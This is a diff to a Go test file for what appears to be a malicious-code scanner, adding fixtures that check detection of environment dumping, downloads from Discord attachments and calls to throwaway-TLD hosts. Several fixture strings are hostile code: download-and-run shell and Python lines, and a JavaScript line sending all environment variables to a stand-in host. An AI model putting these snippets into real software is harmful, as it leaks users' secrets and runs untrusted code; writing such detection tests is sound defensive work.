@@ -85,6 +85,13 @@ func TestRecallClasses(t *testing.T) {
 		{"python argument lists download then run", map[string]string{"acme/x.py": "import subprocess as sp\nsp.Popen([\"curl\",\"-s\",\"http://example.invalid/s\",\"-o\",\"/tmp/s\"]); sp.call([\"sh\",\"/tmp/s\"])\n"}, "download-exec", record.Medium, 0},
 		{"shell saves a script and runs it", map[string]string{"tools/x.sh": "#!/bin/sh\nwget -q -O /tmp/i.sh http://example.invalid/i.sh && bash /tmp/i.sh\n"}, "download-exec", record.Medium, 0},
 		{"shell downloads and unpacks an archive", map[string]string{"tools/x.sh": "#!/bin/sh\ncurl -fsSL -o node.tar.gz \"$URL\" && tar xzf node.tar.gz && rm node.tar.gz\n"}, "download-exec", quiet, record.Low},
+		// the environment joined, programs from file-sharing hosts, throwaway TLDs
+		{"js environment entries joined and sent", map[string]string{"lib/x.js": "const q = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&');\nrequire('https').get('https://example.invalid/?' + q);\n"}, "env-dump", record.Medium, 0},
+		{"js environment names listed", map[string]string{"lib/x.js": "const names = Object.keys(process.env).filter(k => k.startsWith('ACME_')).join(', ');\nconsole.log(names);\n"}, "env-dump", record.Info, record.Info},
+		{"python program from discord attachments", map[string]string{"acme/x.py": "import requests\nr = requests.get(\"https://cdn.discordapp.com/attachments/1234567/8901234/update.exe\")\nopen(\"u.exe\", \"wb\").write(r.content)\n"}, "download-exec", record.Medium, 0},
+		{"python image from discord attachments", map[string]string{"acme/x.py": "AVATAR = \"https://cdn.discordapp.com/attachments/1234567/8901234/logo.png\"\n"}, "download-exec", quiet, record.Low},
+		{"js call to a throwaway-TLD host", map[string]string{"lib/x.js": "const https = require('https');\nhttps.get('https://api-update.top/check?v=1', res => {});\n"}, "exfil-endpoint", record.Medium, 0},
+		{"js style and config getters", map[string]string{"lib/x.js": "const t = _.get(el, 'style.top');\nconst m = config.get('layout.top');\nconst u = { url: 'https://docs.example.com/top' };\n"}, "exfil-endpoint", quiet, record.Low},
 		{"js telemetry tags the host", map[string]string{"lib/x.js": "const os = require('os');\nconst me = os.userInfo().username;\nconst cache = path.join(os.tmpdir(), me);\nconst tags = { host: os.hostname(), platform: os.platform() };\nfetch(u, { method: 'POST', body: JSON.stringify({ tags, values }) });\n"}, "sysinfo-exfil", quiet, record.Low},
 	}
 	rs := DefaultRules()
